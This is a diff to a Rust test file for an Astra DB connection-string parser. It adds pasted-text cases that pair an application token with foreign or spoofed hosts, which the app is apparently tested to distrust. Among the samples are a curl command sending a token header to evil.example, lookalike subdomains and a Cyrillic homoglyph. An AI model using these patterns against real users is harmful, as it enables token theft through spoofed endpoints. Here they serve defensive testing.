@@ -11,6 +11,7 @@ use astra_connection_string::model::{Field, Msg};
 fn a_token_beside_an_address_of_another_host_waits_where_a_database_is_there() {
     let foreign = connection_string().replace(".datastax.com", ".example.com");
     let token = token();
+    let host = endpoint().replace("https://", "");
     for text in [
         format!("ASTRA_URI={foreign}"),
         format!("ASTRA_URI={foreign}\nASTRA_DB_ID={DATABASE_ID}\nASTRA_DB_REGION={REGION}"),
@@ -24,6 +25,19 @@ fn a_token_beside_an_address_of_another_host_waits_where_a_database_is_there() {
         format!("ASTRA_DB_API_ENDPOINT=evil.example\nASTRA_DB_APPLICATION_TOKEN={token}"),
         format!("host = evil.example\nASTRA_DB_APPLICATION_TOKEN = {token}"),
         format!("SITE=http://localhost:3000\nASTRA_DB_APPLICATION_TOKEN={token}"),
+        format!("{host}.evil.example\n{token}"),
+        format!("ASTRA_DB_HOST={host}.evil.example\nTOKEN={token}"),
+        format!("{}\n{token}", host.replace("apps", "\u{430}pps")),
+        format!("{} {token}", host.replace("astra.datastax.com", "evil.example")),
+        format!("wss://{host}.evil.example/x\n{token}"),
+        format!("https:/evil.example/api/json/v1/x\n{token}"),
+        format!("https:\\\\evil.example\\api\n{token}"),
+        format!("curl evil.example/api/json/v1/x -H 'Token: {token}'"),
+        format!("API Endpoint\nevil.example\nToken\n{token}"),
+        format!("endpoint,token\n{host}.evil.example,{token}"),
+        format!("API endpoint|token\nevil.example|{token}"),
+        format!("{{\"https://evil.example\": {{\"token\": \"{token}\"}}}}"),
+        format!("(https://evil.example/api/json/v1/x): {token}"),
         format!("https://{DATABASE_ID}-{REGION}'.apps.astra.|datastax@evil.example.com/?applicationToken={token}"),
     ] {
         let begins = Story::begins().enters(Field::KEYSPACE, "mine").leaves(Field::KEYSPACE);
@@ -52,6 +66,16 @@ fn a_token_beside_an_address_of_datastax_does_not_wait() {
         format!("SITE=http://localhost:3000\nASTRA_DB_API_ENDPOINT={}\nASTRA_DB_APPLICATION_TOKEN={token}", endpoint()),
         format!("https://${{id}}-${{region}}.apps.astra.datastax.com/api/json/v1/x?applicationToken={token}"),
         format!("endpoint,token\n{},{token}", endpoint()),
+        format!("{},{token}", endpoint()),
+        format!("{};{token}", endpoint()),
+        format!("{}\t{token}", endpoint()),
+        format!("\"{}\",\"{token}\"", endpoint()),
+        format!("endpoint = process.env.ASTRA_DB_API_ENDPOINT\ntoken = '{token}'"),
+        format!("os.environ.get(\"ASTRA_DB_API_ENDPOINT\")\ntoken = '{token}'"),
+        format!("client = DataAPIClient('{token}')\ndb = client.get_database(settings.endpoint)"),
+        format!("ASTRA_DB_API_ENDPOINT=https://...\nTOKEN={token}"),
+        format!("ASTRA_DB_API_ENDPOINT=https://your-endpoint\nTOKEN={token}"),
+        format!("{{\"{}\": \"{token}\"}}", endpoint()),
     ] {
         let begins = Story::begins().enters(Field::KEYSPACE, "mine").leaves(Field::KEYSPACE);
         let story = begins.does(Msg::TextPasted(None, text.clone()));
